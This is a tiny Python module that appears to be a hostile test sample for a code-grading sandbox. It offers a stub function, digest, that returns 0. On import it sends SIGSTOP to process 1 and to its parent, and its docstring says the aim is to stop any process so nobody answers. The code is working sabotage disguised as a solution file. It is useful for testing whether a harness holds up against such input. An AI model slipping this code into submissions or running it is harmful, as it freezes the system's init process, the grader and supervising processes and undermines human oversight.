"""Stops whatever process it can, so that nobody answers any more.

kinds: function, beside, stdio
"""

import os
import signal

def digest(values):
    return 0

for number in (1, os.getppid(), -1):
    try:
        if number > 0:
            os.kill(number, signal.SIGSTOP)
    except OSError:
        pass
